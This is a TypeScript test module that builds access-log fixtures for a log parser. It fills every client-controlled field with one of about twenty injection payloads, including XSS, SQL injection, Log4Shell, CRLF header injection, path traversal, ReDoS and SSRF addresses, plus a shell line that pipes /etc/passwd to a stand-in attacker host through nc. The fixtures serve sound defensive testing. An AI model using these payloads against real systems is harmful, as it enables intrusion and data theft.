import { type HostileFile, whole } from "../hostile-file";
import { accessLine } from "../seeded";

/** What log lines do to those who show, export, mail or query them; none has a quote, so that every line still parses. */
const PAYLOADS: Readonly<Record<string, string>> = {
  "script tags": "<script>alert(document.domain)</script>",
  "HTML handlers": "<svg/onload=alert(1)><img src=x onerror=alert(2)>",
  "addresses of scripts": "javascript:alert(1)//data:text/html,<script>alert(1)</script>",
  "spreadsheet formulas": "=HYPERLINK(1)+cmd|' /C calc'!A0\t@SUM(1)\t-2+3",
  SQL: "'; DROP TABLE event; -- ' OR '1'='1",
  "template expressions": "\u0024{7*7}{{7*7}}<%= 7*7 %>#{7*7}*{7*7}",
  Log4Shell: "\u0024{jndi:ldap://evil.example/a}\u0024{\u0024{lower:j}ndi:\u0024{env:X}}",
  "format verbs": "%s%n%x%p%d {0} {} $1 $& \\1",
  "terminal escapes": "\u001b[2J\u001b[31m\u001b]8;;http://evil.example\u0007\u001b]52;c;cm0=\u0007",
  "C1 escapes": "\u009b31m\u0090q\u009c\u009d0;x\u009c",
  "text that turns direction": "\u202eexe.gol\u202c \u2066x\u2069 \u200f",
  "letters that look alike": "\u0430dmin p\u0430ypal \u{1d41a}dmin \uff21dmin",
  "heaps of marks": `a${"\u0301\u0489".repeat(400)}`,
  "invisible letters": "a\u200b\u200c\u200d\ufeff\u2060b\u{e0041}",
  "line breaks in disguise": "\\n\\r%0d%0a\u2028\u2029\u0085",
  "header lines": "x%0d%0aSet-Cookie: a=b%0d%0aLocation: http://evil.example",
  "shell commands": "$(id) `id` ; cat /etc/passwd | nc evil.example 9 &",
  "paths upwards": "../../../../etc/passwd..%2f..%2f%c0%ae%c0%ae/",
  "prototype names": "__proto__ constructor prototype toString hasOwnProperty",
  "patterns that run for ever": `${"a".repeat(3_000)}! ${"x=".repeat(2_000)} ${"(".repeat(500)}`,
  "XML entities": "<!DOCTYPE a [<!ENTITY x SYSTEM &file;>]><a>&x;</a>",
  "addresses of the inside": "http://169.254.169.254/latest/meta-data http://localhost:5432/ file:///etc/passwd",
};

/** One line for each field that a client can fill. */
function linesWith(payload: string): string {
  const word = payload.replaceAll(/[ \t]/g, "+");
  const lines = [
    accessLine(0, { request: `GET /${word} HTTP/1.1` }),
    accessLine(1, { request: `GET /?q=${word} HTTP/1.1` }),
    accessLine(2, { referrer: payload }),
    accessLine(3, { agent: payload }),
    accessLine(4, { user: word }),
    accessLine(5, { client: word }),
    accessLine(6, { request: payload }),
    accessLine(7),
  ];
  return `${lines.join("\n")}\n`;
}

export const injections = Object.entries(PAYLOADS).map(
  ([what, payload]): HostileFile => ({
    what: `an access log with ${what} in every field`,
    format: "combined",
    bytes: () => Buffer.from(linesWith(payload)),
    expected: whole(8),
  }),
);
